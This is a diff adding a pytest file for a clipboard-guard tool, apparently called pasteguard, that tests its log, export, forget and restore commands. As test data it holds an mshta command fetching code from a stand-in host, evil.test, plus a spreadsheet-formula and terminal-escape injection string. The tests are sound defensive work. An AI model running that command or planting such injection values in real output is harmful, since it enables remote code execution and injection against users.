@@ -1,0 +1,150 @@
+"""`pasteguard log`, `export`, `forget` and `restore` over a real event store."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+
+from app.cli import main
+from app.detection import Engine
+from app.events import Event, EventKind
+from app.storage import EventStore
+
+MALICIOUS = "mshta https://evil.test/fix-error"
+
+
+@pytest.fixture
+def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("PASTEGUARD_CONFIG_DIR", str(tmp_path / "config"))
+    monkeypatch.setenv("PASTEGUARD_POLICY", str(tmp_path / "no-policy.toml"))
+    folder = tmp_path / "data"
+    store = EventStore.open(folder)
+    verdict = Engine().analyze(MALICIOUS)
+    old = Event(kind=EventKind.STARTED.value, time=datetime.now(UTC) - timedelta(days=10))
+    store.append(old)
+    neutralized = Event.from_verdict(
+        EventKind.CLIPBOARD_NEUTRALIZED.value, verdict, MALICIOUS, "neutralized"
+    )
+    store.append(neutralized, original=MALICIOUS)
+    store.append(Event(kind=EventKind.ERROR.value, summary='=HYPERLINK("x") \x1b[31mred'))
+    store.close()
+    return folder
+
+
+def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
+    code = main(list(args))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def test_log_prints_a_table_newest_first(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(capsys, "log", "--data-dir", str(data))
+    lines = out.splitlines()
+    assert code == 0 and lines[0].split()[:3] == ["ID", "TIME", "LEVEL"]
+    assert "error" in lines[1] and "clipboard_neutralized" in lines[2] and "started" in lines[3]
+    assert "\x1b" not in out and "<U+001B>" in out  # control characters are shown, never obeyed
+
+
+def test_log_filters(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    _, out, _ = run(capsys, "log", "--level", "malicious", "--data-dir", str(data))
+    assert "clipboard_neutralized" in out and "started" not in out
+    _, out, _ = run(capsys, "log", "--since", "7d", "--data-dir", str(data))
+    assert "started" not in out and "error" in out
+    _, out, _ = run(capsys, "log", "--search", "evil[.]test", "--data-dir", str(data))
+    assert "clipboard_neutralized" in out and "error" not in out
+    _, out, _ = run(capsys, "log", "--kind", "nothing-like-this", "--data-dir", str(data))
+    assert "(no events)" in out
+
+
+def test_export_jsonl_carries_the_required_fields(
+    data: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = run(capsys, "export", "--format", "jsonl", "--data-dir", str(data))
+    records = [json.loads(line) for line in out.splitlines()]
+    assert code == 0 and [r["kind"] for r in records] == [
+        "started",
+        "clipboard_neutralized",
+        "error",
+    ]
+    flagged = records[1]
+    for key in (
+        "time",
+        "kind",
+        "level",
+        "action",
+        "source",
+        "target",
+        "rules",
+        "summary",
+        "text",
+        "sha256",
+    ):
+        assert key in flagged
+    assert flagged["text"] == "mshta hxxps://evil[.]test/fix-error" and len(flagged["sha256"]) == 64
+
+
+def test_export_csv_keeps_formulas_as_text(
+    data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = tmp_path / "out.csv"
+    code, _, err = run(
+        capsys, "export", "--format", "csv", "-o", str(target), "--data-dir", str(data)
+    )
+    assert code == 0 and "exported 3 events" in err
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
+    assert rows[2]["summary"].startswith("'=HYPERLINK")
+
+
+def test_export_ecs(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    _, out, _ = run(
+        capsys, "export", "--format", "ecs", "--level", "malicious", "--data-dir", str(data)
+    )
+    (doc,) = [json.loads(line) for line in out.splitlines()]
+    assert doc["event"]["action"] == "clipboard_neutralized" and "@timestamp" in doc
+
+
+def test_forget_one_and_all(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(capsys, "forget", "1", "--data-dir", str(data))
+    assert code == 0 and "deleted 1 event" in out
+    code, out, _ = run(capsys, "forget", "--all", "--data-dir", str(data))
+    assert code == 0 and "deleted 2 events" in out
+    for path in data.iterdir():
+        if path.is_file():
+            assert b"evil" not in path.read_bytes(), path
+
+
+def test_forget_refused_when_the_policy_says_so(data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+    policy = tmp_path / "policy.toml"
+    policy.write_text("allow_delete_events = false\n", encoding="utf-8")
+    monkeypatch.setenv("PASTEGUARD_POLICY", str(policy))
+    code, _, err = run(capsys, "forget", "--all", "--data-dir", str(data))
+    assert code == 2 and "policy" in err
+
+
+def test_restore_without_a_running_guard_uses_the_clipboard(data: Path, monkeypatch: pytest.MonkeyPatch,
+                                                            capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+    copied: list[str] = []
+    import pyperclip
+
+    monkeypatch.setattr(pyperclip, "copy", copied.append)
+    code, out, _ = run(capsys, "restore", "--last", "--data-dir", str(data))
+    assert code == 0 and copied == [MALICIOUS] and "restored" in out
+    store = EventStore.open(data)
+    assert store.query(limit=1)[0].kind == "restored"
+    store.close()
+
+
+def test_commands_on_a_missing_log_say_so(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, _, err = run(capsys, "log", "--data-dir", str(tmp_path / "none"))
+    assert code == 2 and "no event log" in err
+    with pytest.raises(SystemExit) as usage:  # argparse: usage errors exit 2
+        main(["log", "--since", "yesterday-ish", "--data-dir", str(tmp_path)])
+    assert usage.value.code == 2 and "cannot read time" in capsys.readouterr().err
